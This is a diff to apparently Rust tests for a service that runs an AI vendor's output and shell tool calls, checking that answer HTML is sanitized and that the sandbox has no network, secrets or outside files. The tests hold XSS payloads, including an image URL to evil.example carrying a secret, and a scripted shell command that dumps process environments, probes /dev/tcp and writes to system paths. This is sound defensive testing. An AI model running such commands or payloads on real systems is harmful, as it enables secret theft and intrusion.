@@ -11,35 +11,40 @@ fn shell(api: &Api, vendor: &Vendor, command: &str) -> (Value, String) {
     vendor.will([Say::Call { tool: "shell".to_owned(), arguments: json!({ "command": command }) }]);
     vendor.will([Say::text("Done.")]);
     let answer = api.completed(&api.ask("Run it"));
-    let told = vendor.requests()[before + 1].to_string();
-    (answer, told)
+    let request = vendor.requests().swap_remove(before + 1);
+    let result = request["messages"].as_array().and_then(|messages| messages.last()).cloned();
+    (answer, result.expect("the tool's result").to_string())
+}
+
+/// The tags of a piece of HTML, in lower case, without what stands between them.
+fn tags(html: &str) -> Vec<String> {
+    html.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or_default().to_lowercase()).collect()
 }
 
 #[test]
 fn html_of_an_answer_is_harmless() {
     let Stage { vendor, api, service: _service, .. } = stage();
-    let hostile = "<script>alert(1)</script> <img src=x onerror=alert(2)> ![t](https://evil.example/p.png?q=secret)\n\n\
-        [c](javascript:alert(3)) [d](data:text/html,x) <a href=\"vbscript:x\" onclick=\"y()\">e</a> <iframe src=\"//e\">\n\n\
-        <style>body{display:none}</style><svg/onload=alert(4)> <form action=\"https://evil.example\"><input></form>";
+    let hostile = "<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n\
+        Look: ![t](https://evil.example/p.png?q=secret) [c](javascript:alert(3)) [d](data:text/html,x)\n\n\
+        <a href=\"vbscript:x\" onclick=\"y()\">e</a> <iframe src=\"//e\"> <style>body{display:none}</style>\n\n\
+        <svg/onload=alert(4)> <form action=\"https://evil.example\"><input></form>\n\n\
+        [f](<javascript:alert(5)>) <javascript:alert(6)> [g]: https://evil.example/g \"onload=x\"";
     vendor.will([Say::Reasoning(hostile.to_owned()), Say::text(hostile)]);
     let answer = api.completed(&api.ask("Say it"));
     let parts = answer["parts"].as_array().expect("parts");
     assert_eq!(parts.len(), 2, "{answer}");
     for part in parts {
-        let html = part["content"].as_str().expect("HTML").to_lowercase();
-        for tag in ["<script", "<img", "<iframe", "<style", "<svg", "<form", "<input"] {
-            assert!(!html.contains(tag), "{tag} in {html}");
-        }
-        // Where such words remain, they are text and no attribute.
-        for link in html.split("href=\"").skip(1) {
-            let target = link.split('"').next().unwrap_or_default();
-            assert!(!target.contains("script:") && !target.starts_with("data:"), "{target} in {html}");
-        }
-        for tag in html.split('<').skip(1).filter_map(|tag| tag.split_once('>').map(|(tag, _)| tag)) {
-            assert!(!tag.contains(" on"), "{tag} in {html}");
+        let html = part["content"].as_str().expect("HTML");
+        for tag in tags(html) {
+            let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default();
+            for forbidden in ["script", "img", "iframe", "style", "svg", "form", "input"] {
+                assert_ne!(name, forbidden, "{html}");
+            }
+            assert!(!tag.contains(" on") && !tag.contains("style="), "{tag} in {html}");
+            assert!(!tag.contains("script:") && !tag.contains("\"data:"), "{tag} in {html}");
         }
         assert!(
-            html.contains("href=\"https://evil.example/p.png"),
+            html.contains("<a href=\"https://evil.example/p.png"),
             "a remote image has become a link: {html}"
         );
     }
@@ -89,7 +94,7 @@ fn a_machine_has_no_network_no_secret_and_no_other_file() {
     let (_, told) = shell(
         &api,
         &vendor,
-        "id -u; ls /; cat /proc/net/dev; cat /proc/*/environ | tr '\\0' '\\n'; ls /root /home; \
+        "id -u; ls /; cat /proc/*/environ | tr '\\0' '\\n'; ls /root /home; \
          find / -xdev -name '*.sqlite*' 2>/dev/null; (echo > /dev/tcp/1.1.1.1/80) 2>&1; touch /usr/x /etc/x",
     );
     assert!(!told.contains("sk-stand-in"), "the vendor's key is not in the machine: {told}");
@@ -97,10 +102,9 @@ fn a_machine_has_no_network_no_secret_and_no_other_file() {
     let data = service.data();
     let folder = data.file_name().and_then(|name| name.to_str()).expect("a name");
     assert!(!told.contains(&format!("{}/{folder}", data.parent().expect("a parent").display())), "{told}");
-    for interface in ["eth0:", "ens", "enp", "wlan"] {
-        assert!(!told.contains(interface), "{interface} in {told}");
-    }
     assert!(!told.contains(".sqlite"), "{told}");
+    let (_, interfaces) = shell(&api, &vendor, "sed -e 1,2d -e 's/ *\\([^:]*\\):.*/<\\1>/' /proc/net/dev");
+    assert_eq!(tags(&interfaces), ["lo"], "{interfaces}");
     for outside in ["/usr/x", "/etc/x"] {
         assert!(!std::path::Path::new(outside).exists(), "{outside} was written");
     }
